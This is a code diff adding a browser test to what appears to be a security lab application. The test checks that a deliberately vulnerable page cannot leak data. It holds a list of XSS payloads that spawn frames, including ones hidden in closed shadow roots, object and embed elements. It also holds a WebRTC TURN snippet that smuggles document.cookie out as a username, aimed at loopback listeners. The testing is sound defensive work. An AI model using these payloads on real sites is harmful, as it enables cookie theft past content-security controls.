@@ -85,6 +85,49 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
         Assert.False(tcp.Pending());
     }
 
+    // What frames can lend and what they load, in trees that can be looked into and in trees that can't.
+    private static readonly string[] WaysOutByFrames =
+    [
+        "<iframe src=http://127.0.0.1:TCP/></iframe>",
+        "<script>document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:TCP/' }))</script>",
+        "<script>const h = document.createElement('div'), f = document.createElement('iframe'); document.body.append(h); h.attachShadow({ mode: 'closed' }).append(f); go(f.contentWindow)</script>",
+        "<script>const h = document.createElement('div'), f = document.createElement('iframe'); document.body.append(h); h.attachShadow({ mode: 'closed' }).append(f); f.src = 'http://127.0.0.1:TCP/'</script>",
+        "<div><template shadowrootmode=closed><iframe onload=go(this.contentWindow)></iframe></template></div>",
+        "<div><template shadowrootmode=closed><iframe src=http://127.0.0.1:TCP/></iframe></template></div>",
+        "<div id=h></div><script>h.setHTMLUnsafe('<p><template shadowrootmode=closed><iframe onload=go(this.contentWindow)></iframe></template></p>')</script>",
+        "<script>document.body.append(Document.parseHTMLUnsafe('<p><template shadow' + 'rootmode=closed><iframe onload=go(this.contentWindow)></iframe></template></p>').querySelector('p'))</script>",
+        "<script>document.write('<p><template shadow' + 'rootmode=closed><iframe onload=go(this.contentWindow)></iframe></template></p>')</script>",
+        "<script>const o = Object.assign(document.createElement('object'), { type: 'text/html', data: 'about:blank' }); document.body.append(o); setTimeout(() => go(o.contentWindow), 200)</script>",
+        "<script>document.body.append(Object.assign(document.createElement('embed'), { type: 'text/html', src: 'about:blank' })); setTimeout(() => go(window[0]), 200)</script>",
+    ];
+
+    [Fact]
+    public async Task No_frame_lends_the_page_with_the_hole_a_connection_or_opens_one()
+    {
+        using var tcp = new TcpListener(IPAddress.Loopback, 0);
+        tcp.Start();
+        using var udp = new UdpClient(new IPEndPoint(IPAddress.Loopback, 0));
+        string Aimed(string text) => text.Replace(":TCP", $":{((IPEndPoint)tcp.LocalEndpoint).Port}", StringComparison.Ordinal).Replace(":UDP", $":{((IPEndPoint)udp.Client.LocalEndPoint!).Port}", StringComparison.Ordinal);
+        var go = Aimed("function go(w) { const c = new w.RTCPeerConnection({ iceServers: [{ urls: ['turn:127.0.0.1:UDP', 'turn:127.0.0.1:TCP?transport=tcp'], username: document.cookie.slice(0, 300), credential: 'x' }] }); c.createDataChannel('a'); c.setLocalDescription() }");
+        var session = await OpenAsync();
+        await OpenBookAsync(session, "localhost");
+        foreach (var way in WaysOutByFrames)
+        {
+            await WriteAsync(session, $"<script>loot.textContent = document.cookie; {go} setTimeout(() => {{ document.body.dataset.done = 'yes' }}, 1000)</script>{Aimed(way)}");
+
+            var hole = await OpenTabAsync(session, "Open the page with the hole");
+
+            await Assertions.Expect(hole.Locator("body[data-done=yes]")).ToHaveCountAsync(1);
+            await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("eyJ");
+            Assert.False(tcp.Pending() || udp.Available > 0, way);
+            await hole.CloseAsync();
+        }
+
+        // The same from a page that stops nothing of it: what is listened at would have noticed.
+        await session.Page.EvaluateAsync($"() => {{ {go} go(window) }}");
+        Assert.NotEmpty((await udp.ReceiveAsync(TestContext.Current.CancellationToken)).Buffer);
+    }
+
     [Fact]
     public async Task A_second_visitor_who_is_there_at_the_same_time_is_untouched()
     {
